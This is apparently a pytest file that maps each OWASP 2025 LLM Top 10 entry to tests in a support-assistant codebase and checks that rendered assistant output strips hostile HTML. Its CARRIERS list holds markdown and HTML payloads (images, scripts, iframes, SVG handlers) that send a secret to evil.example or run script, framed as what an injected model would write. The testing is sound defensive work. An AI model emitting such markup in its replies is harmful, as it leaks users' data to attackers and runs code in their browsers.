"""OWASP's Top 10 for applications of language models, 2025: each entry with attacks here, or the tests that play it."""

import pytest

from conversations import rendering
from tests.security import pointing

ELSEWHERE = {
    "LLM01 orders hidden in what is read": [
        "tests/engines/test_injections.py::test_there_are_enough",
        "tests/engines/test_injections.py::test_no_secret_leaves",
        "tests/engines/test_injections.py::test_no_instruction_leaves_in_other_words",
        "tests/outside_assistant/test_obedient.py::test_no_secret_leaves",
        "tests/control_room/test_guided_model.py::test_a_customer_cannot_forge_it",
    ],
    "LLM02 secrets that are told": [
        "tests/engines/test_turns.py::test_nothing_of_other_conversations_other_companies_or_the_desk_reaches_the_model",
        "tests/engines/test_settings.py::test_the_key_is_sealed_and_never_shown",
        "tests/skills/test_passwords.py::test_no_password_reaches_the_log",
        "tests/learning/test_gaps.py::test_the_draft_is_what_agents_replied_without_persons",
    ],
    "LLM03 what others supply": [
        "tests/security/test_packages.py::test_every_package_of_python_has_its_hash_and_comes_from_the_one_registry",
        "tests/escalation/test_training.py::test_missing_damaged_and_outgrown_weights_are_refused",
        "tests/security/test_rules.py::test_each_rule_finds_every_bad_example_and_no_good_one",
    ],
    "LLM04 poisoned knowledge and models": [
        "tests/learning/test_gaps.py::test_an_agent_sees_gaps_and_decides_nothing",
        "tests/learning/test_corrections.py::test_a_viewer_corrects_nothing",
        "tests/assistant/test_store.py::test_what_is_for_agents_only_is_never_in_the_index",
        "tests/escalation/test_training.py::test_teaching_twice_gives_the_same_weights_and_figures",
    ],
    "LLM05 output that is taken for more than words": [
        "tests/conversations/test_rendering.py::test_nothing_hostile_survives",
        "tests/engines/test_language_model.py::test_a_reply_whose_fields_come_in_another_order_is_shown_only_as_a_whole",
    ],
    "LLM06 too much to do by itself": [
        "tests/stories/test_models_tools.py::test_it_cannot_agree_for_the_customer",
        "tests/stories/test_models_tools.py::test_a_number_that_the_customer_never_said_does_not_count",
        "tests/stories/test_models_tools.py::test_a_skill_that_is_off_is_no_tool_even_when_it_is_called",
        "tests/faults/test_takeover_races.py",
        "tests/outside_assistant/test_mcp.py::test_no_other_door_opens",
    ],
    "LLM07 instructions that are told": [
        "tests/engines/test_injections.py::test_no_instruction_leaves_in_other_words",
        "tests/outside_assistant/test_obedient.py::test_nothing_is_promised_claimed_or_told_in_other_words",
        "tests/control_room/test_guided_model.py::test_what_tells_the_customer_of_it_is_not_said",
    ],
    "LLM08 vectors of others": [
        "tests/assistant/test_store.py::test_vectors_of_a_deleted_article_are_deleted",
        "tests/assistant/test_store.py::test_tenant_without_articles_has_an_empty_index",
        "tests/isolation/test_cache_keys.py::test_each_key_begins_with_its_company_and_its_use",
        "tests/exports/test_knowledge_copies.py",
    ],
    "LLM09 what is not so": [
        "tests/engines/test_honest_answers.py::test_it_is_said",
        "tests/engines/test_injections.py::test_nothing_is_promised_or_claimed",
        "tests/outside_assistant/test_replies.py::test_money_without_a_source_ends_with_a_person",
        "tests/assistant/test_knowledge.py::test_questions_that_no_article_answers_are_less_sure",
    ],
    "LLM10 use without bounds": [
        "tests/engines/test_nets.py::test_over_a_budget_the_model_is_not_asked",
        "tests/engines/test_nets.py::test_calls_at_once_do_not_go_over_the_budget_together",
        "tests/engines/test_nets.py::test_the_breaker_opens_after_five_failures_in_a_row_and_lets_one_try",
        "tests/allowance/test_cap.py::test_at_the_cap_a_person_gets_it_with_the_reason_and_the_customer_hears_nothing_of_plans",
    ],
}
# What a model that obeys somebody else would write to have a browser carry words away, or run something.
CARRIERS = [
    "![x](https://evil.example/?q=secret)",
    '<img src="https://evil.example/?q=secret">',
    "[a link](javascript:fetch('https://evil.example'))",
    "[a link](data:text/html;base64,PHNjcmlwdD4=)",
    "<script src=https://evil.example/x.js></script>",
    '<a href="https://evil.example" onclick="x()">here</a>',
    "<style>@import url(https://evil.example)</style>",
    "[ref]: https://evil.example/?q=secret\n\n![a][ref]",
    '<iframe srcdoc="<script>x()</script>"></iframe>',
    "<svg><animate onbegin=x() attributeName=x dur=1s>",
]


@pytest.mark.parametrize("entry", ELSEWHERE)
def test_every_entry_is_played(entry: str) -> None:
    assert len(ELSEWHERE) == 10
    assert pointing.missing(ELSEWHERE[entry]) == []


@pytest.mark.parametrize("words", CARRIERS)
def test_what_a_model_writes_loads_nothing_and_runs_nothing(words: str) -> None:
    shown = rendering.html(words, author_kind="assistant", links=[]).lower()
    assert "<img" not in shown
    assert "<script" not in shown
    assert "<style" not in shown
    assert "<iframe" not in shown
    assert "<svg" not in shown
    assert "<a" not in shown
